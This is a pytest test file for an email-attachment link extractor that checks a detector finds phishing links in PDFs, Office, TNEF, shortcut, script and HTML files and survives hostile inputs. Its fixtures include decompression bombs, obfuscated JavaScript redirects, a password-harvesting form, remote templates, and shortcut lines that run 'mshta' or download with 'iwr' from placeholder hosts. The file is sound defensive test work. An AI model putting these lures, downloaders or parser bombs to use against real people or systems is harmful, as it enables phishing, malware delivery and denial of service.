"""What attached files say and where they lead joins the mail's links; nothing that they do can stop the reading."""

from __future__ import annotations

import struct
import zlib
from base64 import b64encode
from html import escape
from plistlib import FMT_BINARY, dumps
from time import perf_counter, process_time
from urllib.parse import quote

import pytest
from documents_made import (
    QR,
    attribute,
    docx,
    locked_pdf,
    mail,
    object_stream,
    pdf,
    pdf_page,
    properties,
    stream,
    tnef,
    tnef_file,
    zipped,
)  # fmt: skip
from hypothesis import given, settings
from hypothesis import strategies as st

from mekiki.model.message import Layer, Message
from mekiki.parse.documents import passwords_in, read_documents
from mekiki.parse.message import parse

PDF, WORD, TNEF = "application/pdf", "application/octet-stream", "application/ms-tnef"


def read(name: str, kind: str, content: bytes, words: str = "See the file.") -> Message:
    return parse(mail(name, kind, content, words))


def targets(message: Message) -> list[str]:
    return [link.target for link in message.links]


def defects(message: Message) -> set[str]:
    """What is malformed about the file; that these small mails have no trace is no news."""
    return {defect.id for defect in message.defects if defect.part}


# --- PDF --------------------------------------------------------------------------------------------------------------


def test_a_link_of_a_pdf_stands_in_its_part() -> None:
    (link,) = read("a.pdf", PDF, pdf_page(b"Open", b"https://a.example/x")).links
    assert (link.target, link.source) == ("https://a.example/x", "attachment")
    assert (link.place.layer, link.place.part, link.place.quote) == (Layer.PART, "2", "https://a.example/x")


@pytest.mark.parametrize(
    "written",
    [
        b"/U#52I(%s)", b"/#55#52#49 (%s)", b"/URI" + b" " * 50 + b"(%s)", b"/URI%%a (comment\n(%s)", b"/URI(\xef\xbb\xbf%s)",
        b"/X<%%>/URI(%s)", b"/X(50%% \\) /#41)/URI(%s)",
    ],
)  # fmt: skip
def test_a_link_of_a_pdf_is_read_however_its_object_is_written(written: bytes) -> None:
    made = pdf(b"<</Type/Page/Annots[<</Subtype/Link/A<</S/URI%s>>>>]>>" % (written % b"https://a.example/#41b%41"))
    assert targets(read("a.pdf", PDF, made)) == ["https://a.example/#41b%41"]


@pytest.mark.parametrize("written", [b" " * 9000 + b"%s", b"%s zz"])
def test_a_link_of_a_pdf_in_hexadecimal_digits_is_read_with_what_is_none_among_them(written: bytes) -> None:
    made = pdf(b"<</A<</S/URI/URI<%s>>>>>" % (written % b"https://a.example/x".hex().encode()))
    assert targets(read("a.pdf", PDF, made)) == ["https://a.example/x"]


def lzw(data: bytes) -> bytes:
    """As ISO 32000-1 7.4.4.2 tells; codes grow by a bit where the table does."""
    codes = {bytes((byte,)): byte for byte in range(256)}
    bits, seen, following = f"{256:09b}", b"", 258
    for at in range(len(data)):
        width = max(9, following.bit_length())
        if seen + data[at : at + 1] in codes:
            seen += data[at : at + 1]
            continue
        bits += f"{codes[seen]:0{width}b}"
        codes[seen + data[at : at + 1]] = following
        following, seen = following + 1, data[at : at + 1]
    bits += f"{codes[seen]:0{max(9, following.bit_length())}b}"
    bits += f"{257:0{max(9, (following + 1).bit_length())}b}0000000"
    return int(bits[: len(bits) // 8 * 8], 2).to_bytes(len(bits) // 8, "big")


RELATED = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink"
LONG = b"5 0 <</S/URI/URI(https://a.example/" + b"".join(b"%x" % (7919**n) for n in range(1, 25)) + b")>>"
UP = b"".join(
    b"\2" + bytes((a - b) % 256 for a, b in zip(LONG[at : at + 8].ljust(8), LONG[at - 8 : at] or bytes(8), strict=True))
    for at in range(0, len(LONG), 8)
)
LEFT = bytes((byte - (LONG[at - 1] if at % 2 else 0)) % 256 for at, byte in enumerate(LONG))  # in rows of two


@pytest.mark.parametrize(
    ("packed", "entries"),
    [
        (lzw(LONG), b"/Filter/LZWDecode"), (zlib.compress(LONG), b"/Filter[/Crypt/FlateDecode]"),
        (zlib.compress(UP), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 8>>"),
        (zlib.compress(UP), b"/Filter[/FlateDecode]/DecodeParms[<</Predictor 15/Columns 2/Colors 4>>]"),
        (zlib.compress(LEFT), b"/Filter/FlateDecode/DecodeParms<</Predictor 2/Columns 2>>"),
    ],
)  # fmt: skip
def test_objects_are_read_however_their_stream_is_packed(packed: bytes, entries: bytes) -> None:
    made = pdf(stream(packed, b"/Type/ObjStm/N 1/First 4" + entries))
    assert targets(read("a.pdf", PDF, made)) == [LONG[17:-3].decode()]


def test_a_predictor_that_is_none_leaves_the_bytes_as_they_are() -> None:
    entries = b"/Type/ObjStm/N 1/First 4/DecodeParms<</Predictor 12/Columns 1>>"
    assert targets(read("a.pdf", PDF, pdf(stream(LONG, entries)))) == [LONG[17:-3].decode()]


@pytest.mark.parametrize("entries", [b"/N 1/First 4", b"/N 0/First 4", b"/First 0", b""])
def test_a_stream_of_objects_that_names_none_is_passed_over(entries: bytes) -> None:
    empty = stream(b"xxxxxxxx", b"/Type/ObjStm" + entries)
    assert targets(read("a.pdf", PDF, pdf(empty, b"<</S/URI/URI(https://a.example/x)>>"))) == ["https://a.example/x"]


@pytest.mark.parametrize("packed", [False, True])
def test_the_words_of_a_page_are_read(packed: bool) -> None:
    (document,) = read("a.pdf", PDF, pdf_page(b"Pay \\(now\\)", packed=packed)).documents
    assert (document.kind, document.pages, document.text.strip()) == ("pdf", 1, "Pay (now)")


@pytest.mark.parametrize(
    "action",
    [
        b"/URI(https://a.example/x)",
        b"/URI <68747470733a2f2f612e6578616d706c652f78>",
        b"/#55RI(https://a.example/x)",
        b"/URI(https://a.example\\057x)",
        b"/URI(\xfe\xff\0h\0t\0t\0p\0s\0:\0/\0/\0a\0.\0e\0x\0a\0m\0p\0l\0e\0/\0x)",
        b"/S/Launch/F<</FS/URL/F(https://a.example/x)>>",
        b"/S/JavaScript/JS(app.launchURL\\('https://a.example/x'\\);)",
    ],
)
def test_however_the_action_is_written(action: bytes) -> None:
    assert targets(read("a.pdf", PDF, pdf(b"<</Type/Page/A<<" + action + b">>>>"))) == ["https://a.example/x"]


def test_a_link_in_another_object_or_in_a_compressed_one() -> None:
    far = pdf(b"<</Type/Page/A<</S/URI/URI 2 0 R>>>>", b"(https://a.example/x)")
    packed = pdf(object_stream(b"<</Type/Page>>", b"<</S/URI/URI(https://b.example/y)>>"))
    assert targets(read("a.pdf", PDF, far)) == ["https://a.example/x"]
    assert targets(read("a.pdf", PDF, packed)) == ["https://b.example/y"]
    assert read("a.pdf", PDF, packed).documents[0].pages == 1


def test_an_address_in_the_words_of_a_page_is_a_link_though_its_font_has_codes_of_its_own() -> None:
    table = b"1 begincodespacerange <00> <ff> endcodespacerange 1 beginbfrange <01> <80> <0020> endbfrange"
    codes = bytes(ord(letter) - 0x1F for letter in "https://a.example/x").hex().encode()
    font = b"/Resources<</Font<</F1<</Type/Font/Subtype/Type1/ToUnicode 3 0 R>>>>>>"
    drawn = b"BT /F1 9 Tf [<" + codes[:14] + b"> -20 <" + codes[14:] + b">] TJ ET"
    made = pdf(b"<</Type/Page/Contents 2 0 R" + font + b">>", stream(drawn), stream(table, packed=True))
    assert targets(read("a.pdf", PDF, made)) == ["https://a.example/x"]


def test_japanese_words_in_a_font_without_a_table() -> None:
    font = b"/Resources<</Font<</F1<</Subtype/Type0/Encoding/UniJIS-UTF16-H>>>>>>"
    drawn = b"BT /F1 9 Tf <" + "お支払い".encode("utf-16-be").hex().encode() + b"> Tj ET"
    made = pdf(b"<</Type/Page/Contents 2 0 R" + font + b">>", stream(drawn))
    assert read("a.pdf", PDF, made).documents[0].text.strip() == "お支払い"


def pixels() -> tuple[int, int, bytes]:
    from io import BytesIO

    from PIL import Image

    with Image.open(BytesIO(QR)) as picture:
        grey = picture.convert("L")
        return (*grey.size, grey.tobytes())


@pytest.mark.parametrize("predictor", [False, True])
def test_a_code_in_a_picture_of_a_pdf(predictor: bool) -> None:
    width, height, data = pixels()
    head = b"/Subtype/Image/ColorSpace/DeviceGray/BitsPerComponent 8/Width %d/Height %d" % (width, height)
    if predictor:
        head += b"/DecodeParms<</Predictor 15/Columns %d>>" % width
        data = b"".join(b"\0" + data[at : at + width] for at in range(0, len(data), width))
    (link,) = read("a.pdf", PDF, pdf(b"<</Type/Page>>", stream(data, head, packed=True))).links
    assert (link.source, link.host, link.place.part) == ("qr", "a.example", "2")


def test_a_locked_pdf_is_opened_with_the_password_that_the_mail_tells() -> None:
    locked = locked_pdf("4711", "https://a.example/x")
    opened = read("a.pdf", PDF, locked, "The password is: 4711")
    assert targets(opened) == ["https://a.example/x"]
    assert opened.documents[0].oddities == ("encrypted", "password-in-mail")
    closed = read("a.pdf", PDF, locked)
    assert (targets(closed), defects(closed)) == ([], {"document-encrypted"})
    assert targets(read("a.pdf", PDF, locked_pdf("", "https://a.example/x"))) == ["https://a.example/x"]


def test_words_that_a_mail_gives_as_a_password() -> None:
    assert passwords_in("解凍パスワード：ab12\nご確認ください。") == ("ab12",)
    assert passwords_in("SENHA DE ACESSO: 123\nProtocolo: 9") == ("123",)
    assert passwords_in("Forget your password?\nCall us: now") == ()


# --- PDF, hostile -----------------------------------------------------------------------------------------------------


def bomb() -> bytes:
    packed = zlib.compress(bytes(60_000_000), 9)
    return pdf(
        b"<</Type/Page/Contents 2 0 R>>",
        b"<</Filter/FlateDecode/Length %d>>\nstream\n%s\nendstream" % (len(packed), packed),
    )


HOSTILE = {
    "empty": b"%PDF-1.4",
    "cut": pdf_page(b"Open", b"https://a.example/x")[:60],
    "bomb": bomb(),
    "bomb in a bomb": pdf(
        b"<</Type/Page/Contents 2 0 R>>", stream(zlib.compress(bytes(9_000_000)), b"/Filter[/FlateDecode/FlateDecode]")
    ),
    "loop": pdf(b"<</Type/Page/Parent 1 0 R/Contents 1 0 R/Resources 1 0 R>>"),
    "loop of references": pdf(b"2 0 R", b"1 0 R", b"<</Type/Page/Contents 1 0 R/Font 2 0 R>>"),
    "form that draws itself": pdf(
        b"<</Type/Page/Contents 2 0 R/Resources 3 0 R>>", stream(b"/X Do " * 900, b"/Subtype/Form/Resources 3 0 R"),
        b"<</XObject<</X 2 0 R>>>>",
    ),
    "10,000 objects": pdf(*[b"<</S/URI/URI(https://a.example/%d)>>" % number for number in range(10_000)]),
    "80,000 objects": b"%PDF-1.4\n" + b"".join(b"%d 0 obj<</Type/Page>>endobj\n" % number for number in range(80_000)),
    "object stream of itself": pdf(stream(b"1 0 1 0 1 0 ", b"/Type/ObjStm/N 900000/First 12")),
    "deep": pdf(b"<</Type/Page/X" + b"[" * 200_000 + b">>"),
    "deep parentheses": pdf(b"<</Type/Page/URI(" + b"(" * 500_000 + b">>"),
    "many unclosed strings": pdf(b"<</Type/Page" + b"/URI(" * 100_000 + b">>"),
    "many streams, no end": b"%PDF-1.4\n" + b"1 0 obj<<>>stream\n" * 50_000,
    "blanks": pdf(b"<</Type/Page" + b"1 0" + b" " * 1_000_000 + b"R>>") + b"1 0" + b" " * 1_000_000 + b"obj",
    "huge picture": pdf(
        b"<</Type/Page>>", stream(b"x", b"/Subtype/Image/Width 99999/Height 99999/ColorSpace/DeviceRGB")
    ),
    "numbers": pdf(b"<</Type/Page/Contents 2 0 R>>", stream(b"--5 +-.3 " + b"9" * 100_000 + b" Td")),
    "wide table": pdf(
        b"<</Type/Page/Contents 2 0 R/Resources<</Font<</F<</ToUnicode 3 0 R>>>>>>>>", stream(b"/F 1 Tf (a) Tj"),
        stream(b"beginbfrange <0000> <ffffffff> <0020> endbfrange " * 2000),
    ),
}  # fmt: skip


@pytest.mark.parametrize("made", HOSTILE.values(), ids=HOSTILE.keys())
def test_no_pdf_stops_the_reading_or_holds_it_up(made: bytes) -> None:
    start = perf_counter()
    message = read("a.pdf", PDF, made)
    assert perf_counter() - start < 6
    assert len(message.documents) == 1


def test_what_was_cut_short_is_told() -> None:
    assert "pdf-bomb" in defects(read("a.pdf", PDF, bomb()))
    assert "pdf-too-many-objects" in defects(read("a.pdf", PDF, HOSTILE["80,000 objects"]))
    assert "pdf-broken" in defects(read("a.pdf", PDF, HOSTILE["empty"]))
    assert len(read("a.pdf", PDF, HOSTILE["10,000 objects"]).links) == 200


# --- Office -----------------------------------------------------------------------------------------------------------


def test_a_hyperlink_of_a_word_document() -> None:
    message = read("a.docx", WORD, docx(("hyperlink", "https://a.example/x?a=1&amp;b=2"), text="Click here"))
    assert targets(message) == ["https://a.example/x?a=1&b=2"]
    assert message.documents[0].text.strip() == "Click here"


@pytest.mark.parametrize("kind", ["attachedTemplate", "oleObject"])
def test_a_template_or_object_that_is_fetched_is_told_apart_from_a_link(kind: str) -> None:
    message = read("a.docx", WORD, docx((kind, "https://a.example/t.dotm"), ("hyperlink", "https://b.example/")))
    assert message.documents[0].remote == ("https://a.example/t.dotm",)
    assert message.documents[0].oddities == (f"remote-{kind.lower()}",)
    assert len(message.links) == 2


def test_a_field_that_is_spread_over_runs() -> None:
    split = '<w:instrText>HYPER</w:instrText></w:r><w:r><w:instrText>LINK "https://a.example/x"</w:instrText>'
    message = read("a.docx", WORD, docx(more={"word/footnotes.xml": split.encode()}))
    assert targets(message) == ["https://a.example/x"]


def test_names_of_xml_vocabularies_are_no_links() -> None:
    assert targets(read("a.docx", WORD, docx(text="nothing"))) == []


def test_a_code_in_a_picture_of_a_document() -> None:
    (link,) = read("a.docx", WORD, docx(more={"word/media/image1.png": QR})).links
    assert (link.source, link.host) == ("qr", "a.example")


def test_a_workbook_with_a_formula_and_a_presentation_with_slides() -> None:
    sheet = b'<sheetData><c><f>HYPERLINK("https://a.example/x","Open")</f></c></sheetData>'
    book = zipped({"xl/workbook.xml": b"<workbook/>", "xl/worksheets/sheet1.xml": sheet})
    assert targets(read("a.xlsx", WORD, book)) == ["https://a.example/x"]
    slides = {f"ppt/slides/slide{number}.xml": b"<a:p><a:t>Prize</a:t></a:p>" for number in (1, 2)}
    shown = read("a.pptx", WORD, zipped({"ppt/presentation.xml": b"<p/>", **slides})).documents[0]
    assert (shown.pages, shown.text.split()) == (2, ["Prize", "Prize"])


def test_a_document_that_is_a_bomb_is_told() -> None:
    made = docx(more={"word/media/image1.bmp": bytes(80_000_000)})
    assert "document-broken" in defects(read("a.docx", WORD, made))
    assert "document-broken" in defects(read("a.docx", WORD, made[: len(made) // 2]))


def test_the_field_the_template_and_the_object_of_an_rtf_file() -> None:
    rtf = rb"{\rtf1{\*\template https://t.example/t.dotm}"
    rtf += rb'{\field{\*\fldinst{\b HYPER}LINK "https://a.example/x"}{\fldrslt Open}}'
    wide = "https://o.example/payload".encode("utf-16-le").hex().encode()
    message = read("a.doc", "application/msword", rtf + rb"{\object{\*\objdata 0105" + wide + rb"00}}}")
    assert targets(message) == ["https://a.example/x", "https://t.example/t.dotm", "https://o.example/payload"]
    assert message.documents[0].oddities == ("remote-attachedtemplate", "remote-oleobject")
    assert "Open" in message.documents[0].text


def test_an_old_word_file_is_looked_through_in_both_spellings() -> None:
    content = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600) + "WordDocument".encode("utf-16-le")
    content += b'\x13HYPERLINK "https://a.example/x"\x14' + "https://b.example/y\0".encode("utf-16-le")
    content += b"http://schemas.microsoft.com/office/word/2003/wordml\0"
    assert targets(read("a.doc", "application/msword", content)) == ["https://a.example/x", "https://b.example/y"]


# --- winmail.dat ------------------------------------------------------------------------------------------------------


def test_the_files_in_a_winmail_are_parts_of_the_mail() -> None:
    packed = tnef(tnef_file(b"run.exe", b"MZ" + bytes(80)), tnef_file(b"a.pdf", pdf_page(b"", b"https://a.example/x")))
    message = read("winmail.dat", TNEF, packed)
    assert [(part.path, part.filename, part.container) for part in message.parts[2:]] == [
        ("2.1", "run.exe", "2"),
        ("2.2", "a.pdf", "2"),
    ]
    assert [(link.target, link.place.part) for link in message.links] == [("https://a.example/x", "2.2")]


def test_the_body_in_a_winmail_is_shown_where_the_mail_shows_nothing_else() -> None:
    html = b"<html><body><a href='https://a.example/x'>Open</a></body></html>"
    packed = tnef(attribute(1, 0x00069003, properties((0x102, 0x1013, html))))
    alone = read("winmail.dat", TNEF, packed, words="")
    assert [(link.target, link.text, link.source) for link in alone.links] == [("https://a.example/x", "Open", "html")]
    beside = read("winmail.dat", TNEF, packed)
    assert [(link.target, link.source) for link in beside.links] == [("https://a.example/x", "attachment")]
    assert len(beside.bodies) == 1


def test_an_rtf_body_and_a_mail_within_the_mail() -> None:
    rtf = rb"{\rtf1\fromhtml1{\*\htmltag84 <a href='https://a.example/x'>}Open}"
    packed = struct.pack("<LL4sL", len(rtf) + 12, len(rtf), b"MELA", 0) + rtf
    inner = tnef(attribute(1, 0x00069003, properties((0x102, 0x1009, packed))))
    outer = tnef(
        attribute(2, 0x00069002, bytes(14)),
        attribute(2, 0x00069005, properties((0xD, 0x3701, bytes(16) + inner))),
    )
    assert "https://a.example/x" in targets(read("winmail.dat", TNEF, inner))
    assert "2.2" in [part.path for part in read("winmail.dat", TNEF, outer).parts]


def test_winmails_within_winmails_end() -> None:
    packed = tnef(tnef_file(b"end.txt", b"end"))
    for _ in range(30):
        nested = properties((0xD, 0x3701, bytes(16) + packed))
        packed = tnef(attribute(2, 0x00069002, bytes(14)), attribute(2, 0x00069005, nested))
    assert "tnef-depth" in defects(read("winmail.dat", TNEF, packed))


@given(st.binary(max_size=400))
@settings(max_examples=80, deadline=None)
def test_no_winmail_stops_the_reading(junk: bytes) -> None:
    good = tnef(attribute(1, 0x00069003, properties((0x1F, 0x1000, b"a\0")) + junk), tnef_file(b"x", junk))
    for content in (good[:6] + junk, good[: len(good) // 2], good.replace(b"\1\0\0\0", junk[:4].ljust(4, b"\xff"))):
        assert [part.path for part in read("winmail.dat", TNEF, content).parts][:2] == ["1", "2"]


# --- calendars, cards, shortcuts --------------------------------------------------------------------------------------


def test_every_line_of_an_appointment_that_can_lead_somewhere() -> None:
    entry = (
        "BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY:支払い\r\n"
        "DESCRIPTION:Confirm\\n at https://a.exam\r\n ple/x\\, please\r\n"
        "URL:https://b.example/\r\nATTACH;FMTTYPE=text/html:https://c.example/f\r\n"
        'X-ALT-DESC;FMTTYPE=text/html:<a href="https://d.example/">Open</a>\r\n'
        'ORGANIZER;CN="A: B":mailto:o@e.example\r\n'
        'LOCATION;ALTREP="https://f.example/":Room\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n'
    )
    message = read("a.ics", "text/calendar", entry.encode())
    hosts = {link.host for link in message.links}
    assert hosts == {"a.example", "b.example", "c.example", "d.example", "e.example", "f.example"}
    assert "https://a.example/x" in targets(message)
    assert message.documents[0].text.startswith("支払い\nConfirm\n at")


def test_an_old_card_with_quoted_printable() -> None:
    card = b"BEGIN:VCARD\nVERSION:2.1\nitem1.URL:https://a.example/\nNOTE;ENCODING=QUOTED-PRINTABLE;CHARSET=shift_jis:=\n=8Ex=95=A5\nEND:VCARD\n"
    message = read("a.vcf", "text/x-vcard", card)
    assert targets(message) == ["https://a.example/"]
    assert message.documents[0].kind == "card"
    assert message.documents[0].text.strip() == "支払"


def plist(url: bytes) -> bytes:
    kind = b'<!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "http://www.apple.com/DTDs/PropertyList-1.0.dtd">'
    return b"<?xml version='1.0'?>" + kind + b"<plist><dict><key>URL</key><string>" + url + b"</string></dict></plist>"


def xml(inside: bytes) -> bytes:
    return b"<?xml version='1.0'?><x xmlns='http://schemas.microsoft.com/windows/2009/library'>" + inside + b"</x>"


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("Invoice.url", b"[InternetShortcut]\r\nURL=https://a.example/x\r\n"),
        (
            "Invoice.webloc",
            b'<?xml version="1.0"?><plist><dict><key>URL</key><string>https://a.example/x</string></dict></plist>',
        ),
        ("Invoice.desktop", b"[Desktop Entry]\nType=Link\nURL=https://a.example/x\n"),
        ("Invoice.desktop", b"[Desktop Entry]\nType=Application\nExec=xdg-open https://a.example/x\n"),
        ("Invoice.inetloc", plist(b"https://a.example/x")),
        ("Invoice.fileloc", plist(b"https://a.example/x")),
        ("Profile.mobileconfig", plist(b"https://a.example/x")),
        ("Scan.library-ms", xml(b"<simpleLocation><url>\\\\a.example\\x</url></simpleLocation>")),
        ("Scan.searchConnector-ms", xml(b"<simpleLocation><url>https://a.example/x</url></simpleLocation>")),
        ("Scan.settingcontent-ms", b"<PCSettings><DeepLink>cmd /c start https://a.example/x</DeepLink></PCSettings>"),
        ("Scan.application", xml(b"<deploymentProvider codebase='https://a.example/x'/>")),
        ("Invoice.iqy", b"WEB\r\n1\r\nhttps://a.example/x\r\n"),
        ("Invoice.lnk", b"L\0\0\0\x01\x14\x02\0" + bytes(60) + "mshta https://a.example/x\0".encode("utf-16-le")),
    ],
)
def test_where_a_shortcut_leads(name: str, content: bytes) -> None:
    assert targets(read(name, "application/octet-stream", content)) == ["https://a.example/x"]


@pytest.mark.parametrize(
    "entry", [b"URL=file:///C:/a.txt\r\nIconFile=", b"WorkingDirectory=", b"[Shell]\r\nCommand=2\r\nIconFile="]
)
@pytest.mark.parametrize("name", ["a.url", "a.scf"])
def test_what_a_shortcut_fetches_from_a_share(name: str, entry: bytes) -> None:
    (document,) = read(
        name, "application/octet-stream", b"[InternetShortcut]\r\n" + entry + b"\\\\a.example\\s"
    ).documents
    assert document.remote == ("\\\\a.example\\s",)


@pytest.mark.parametrize("kind", ["text/plain", "text/markdown", "application/octet-stream"])
@pytest.mark.parametrize("name", ["notice.txt", "notice.md", "NOTICE.TXT "])
def test_a_text_that_is_attached_leads_where_it_says(name: str, kind: str) -> None:
    message = read(name, kind, "詳細：[Open](https://a.example/x)\n".encode(), "word " * 100)
    assert [(link.target, link.source, link.place.part) for link in message.links] == [
        ("https://a.example/x", "attachment", "2")
    ]
    assert [(each.kind, each.text) for each in message.documents] == [("text", "詳細：[Open](https://a.example/x)\n")]


def test_files_for_programmers_are_left_alone() -> None:
    for name in ("a.log", "a.json", "a.py", "a.patch"):
        assert read(name, "text/plain", b"https://a.example/x").documents == ()


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.js", b"location='https://a.exa'+'mple/x'"), ("a.vbs", b'CreateObject("x").Run "https://a.example/x"'),
        ("a.ps1", b"iwr https://a.example/x -OutFile b"), ("a.bat", b"start https://a.example/x\r\n"),
        ("a.wsf", b"<job><script src='https://a.example/x'></script></job>"),
    ],
)  # fmt: skip
def test_where_a_script_leads(name: str, content: bytes) -> None:
    message = read(name, "application/octet-stream", content)
    assert (targets(message), message.documents[0].kind) == (["https://a.example/x"], "script")


# --- pages and mails --------------------------------------------------------------------------------------------------

INNER = "<html><form action='https://a.example/x'><input type=password></form></html>"
ENCODED = b64encode(INNER.encode()).decode()
TWICE = f"<iframe srcdoc='{escape(INNER)}'></iframe>"


def covered(text: bytes, key: bytes) -> bytes:
    return bytes(each ^ key[at % len(key)] for at, each in enumerate(text))


@pytest.mark.parametrize(
    "page",
    [
        INNER,
        "<meta http-equiv=refresh content='0; url=https://a.example/x'>",
        f"<script>document.write(atob('{ENCODED}'))</script>",
        f"<script>var a='{ENCODED[:40]}' + '{ENCODED[40:]}';</script>",
        f"<script>document.write(unescape('{''.join(f'%{byte:02x}' for byte in INNER.encode())}'))</script>",
        f"<script>eval('{''.join(f'{chr(92)}x{byte:02x}' for byte in INNER.encode())}')</script>",
        f"<script>document.write(String.fromCharCode({','.join(str(byte) for byte in INNER.encode())}))</script>",
        f"<iframe src='data:text/html;base64,{ENCODED}'></iframe>",
        "<script>window.location.href = 'https://a.example/x';</script>",
        "<body onload=\"location='https://a.example/x'\">",
        "<iframe src='https://a.example/x'></iframe>",
        "<details open ontoggle=\"location='https:&#47;/a.example/x'\">",
        "<body onpageshow=location='https://a.example/x'>",
        f"<iframe srcdoc='{escape(TWICE)}'></iframe>",
        f"<iframe srcdoc='{escape('<script>location=`https://a.example/x`</script>')}'></iframe>",
        f'<embed src="data:image/svg+xml,{quote("<svg><script>open(`https://a.example/x`)</script></svg>")}">',
        f"<script src='data:text/javascript;base64,{b64encode(b'open(`https://a.example/x`)').decode()}'></script>",
        f"<script>open('{b'https://a.example/x'.hex()}'.match(/../g).map(decode).join(''))</script>",
        f"<script>const k = 'hanako', d = '{covered(b'https://a.example/x', b'hanako').hex()}'</script>",
        f"<script>const k = 'hanako', d = '{b64encode(covered(b'https://a.example/x', b'hanako')).decode()}'</script>",
        "<svg><script>location='https&#58;//a.example&#47;x'</script></svg>",
    ],
)
def test_where_an_attached_page_leads(page: str) -> None:
    message = read("a.html", "text/html", f"<html><body>{page}</body></html>".encode())
    assert "https://a.example/x" in targets(message)
    assert {link.source for link in message.links} == {"attachment"}


def test_layers_of_encoding_are_taken_off_and_end() -> None:
    page = INNER
    for _ in range(3):
        page = f"<html><script>document.write(atob('{b64encode(page.encode()).decode()}'))</script></html>"
    assert "https://a.example/x" in targets(read("a.html", "text/html", page.encode()))
    for _ in range(12):
        page = f"<html><script>document.write(atob('{b64encode(page.encode()).decode()}'))</script></html>"
    assert read("a.html", "text/html", page.encode()).documents


def test_a_drawing_that_links_and_acts() -> None:
    drawing = b'<svg xmlns="http://www.w3.org/2000/svg"><a xlink:href="https://a.example/x"><text>Open</text></a></svg>'
    assert targets(read("a.svg", "image/svg+xml", drawing)) == ["https://a.example/x"]


def test_what_an_entity_of_a_drawing_stands_for_is_put_in() -> None:
    entities = b"<!ENTITY h 'a.example'><!ENTITY u \"https://&h;/x\"><!ENTITY e '&e;&e;'>"
    drawing = b"<!DOCTYPE svg [" + entities + b"]><svg><a href='&u;'><text>&e;</text></a></svg>"
    assert targets(read("a.svg", "image/svg+xml", drawing)) == ["https://a.example/x"]


@pytest.mark.parametrize(
    "source",
    [
        "<!DOCTYPE a [<!ENTITY a 'b'>]>" + "&x;" * 500_000,
        "<script>&</script>" * 50_000,
        "<html xmlns='x'>" + "<script>&</script>" * 50_000,
    ],
    ids=("entities", "scripts", "scripts of XML"),
)
def test_what_a_page_only_repeats_takes_no_time(source: str) -> None:
    start = process_time()
    read("a.html", "text/html", source.encode())
    assert process_time() - start < 3  # alone on a machine, it takes half a second; it was half a minute


def test_half_a_surrogate_pair_in_what_a_script_decodes_stops_nothing() -> None:
    """Nor does a letter by itself, which as a key makes other words of those that are covered."""
    key, covered = "hanako", "00151a111855474e0600050e46150b121f"
    inner = f"<script>const n = '\ud800', m = 'x', k = '{key}', d = '{covered}'; open(k, d)</script>"
    outer = "".join(f"%u{ord(sign):04x}" for sign in inner)
    assert "https://hana.test/" in targets(read("a.html", "text/html", f"<script>f('{outer}')</script>".encode()))


IN_LINKS = {
    "a page": f"data:text/html;base64,{ENCODED}",
    "a page in capitals, in signs": f"DATA:TEXT/HTML,{quote(INNER)}",
    "a page of another charset": f"data:text/html;charset=utf-16;base64,{b64encode(INNER.encode('utf-16')).decode()}",
    "a drawing": f"data:image/svg+xml,{quote('<svg><a href=`https://a.example/x`>Open</a></svg>'.replace('`', chr(34)))}",
    "a page within a page": f"data:text/html,{quote(chr(60) + 'iframe src=' + chr(34))}data:text/html;base64,{ENCODED}%22>",
    "a script": "javascript:location='https://a.example/x'",
    "a script with a break in its name": "java&Tab;script:open(&quot;https:%2f%2fa.example/x&quot;)",
    "a script that decodes": f"javascript:open(atob('{b64encode(b'https://a.example/x').decode()}'))",
}


@pytest.mark.parametrize("written", IN_LINKS.values(), ids=IN_LINKS.keys())
@pytest.mark.parametrize(
    ("tag", "source"), [('<p>To <a href="{}">the minutes</a>', "html"), ('<form action="{}"><input></form>', "form")]
)
def test_what_a_link_holds_itself_leads_somewhere(written: str, tag: str, source: str) -> None:
    message = parse(f"From: x@y.example\nContent-Type: text/html\n\n{tag.format(written)}".encode())
    outer, (link,) = message.links[0], [each for each in message.links if each.host]
    assert (link.target, link.source, link.text, link.place) == ("https://a.example/x", source, outer.text, outer.place)


@pytest.mark.parametrize(
    "written", ["javascript:void(0)", "data:image/png;base64,AAAA", "data:text/plain,https://a.example"]
)
def test_a_link_that_holds_neither_page_nor_address_leads_nowhere_else(written: str) -> None:
    (link,) = parse(f"From: x@y.example\nContent-Type: text/html\n\n<a href='{written}'>Open</a>".encode()).links
    assert not link.host


def test_pages_within_links_within_pages_end() -> None:
    page = INNER
    for _ in range(40):
        page = (
            f"<a href='data:text/html,{quote(page)}'>" if len(page) < 100_000 else f"<a href='data:text/html,{page}'>"
        )
    assert parse(b"From: x@y.example\nContent-Type: text/html\n\n" + page.encode()).links


PAGE = "<html><a href='https://a.example/x'>Open</a></html>"
ARCHIVE = {"WebMainResource": {"WebResourceData": PAGE.encode(), "WebResourceURL": "about:blank"}}


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.webarchive", dumps(ARCHIVE, fmt=FMT_BINARY)), ("a.webarchive", dumps(ARCHIVE)),
        ("a.xml", b"<?xml version='1.0'?><r><h:a xmlns:h='http://www.w3.org/1999/xhtml' href='https://a.example/x'/></r>"),
        ("a.xml", b"<?xml version='1.0'?><r xmlns:h='http://www.w3.org/1999/xhtml'><h:script>open('https://a.example/x')</h:script></r>"),
    ],
)  # fmt: skip
def test_a_file_that_a_browser_opens_as_a_page_leads_where_the_page_leads(name: str, content: bytes) -> None:
    assert set(targets(read(name, "application/octet-stream", content))) == {"https://a.example/x"}


@pytest.mark.parametrize(
    "content", [b"bplist00\xd0\x08", b"<?xml version='1.0'?><plist><data>!</data></plist>", dumps(ARCHIVE)[:300]]
)
def test_an_archive_that_holds_no_page_leads_nowhere(content: bytes) -> None:
    assert targets(read("a.webarchive", "application/octet-stream", content)) == []


@pytest.mark.parametrize("address", ["full address", "alternate full address", "gatewayhostname"])
def test_the_machine_that_a_remote_desktop_opens_is_a_link(address: str) -> None:
    content = f"screen mode id:i:2\r\n{address}:s:desk.a.example:3389\r\n".encode("utf-16")
    (link,) = read("Invoice.rdp", "application/octet-stream", content).links
    assert (link.scheme, link.host, link.registrable_domain) == ("rdp", "desk.a.example", "a.example")


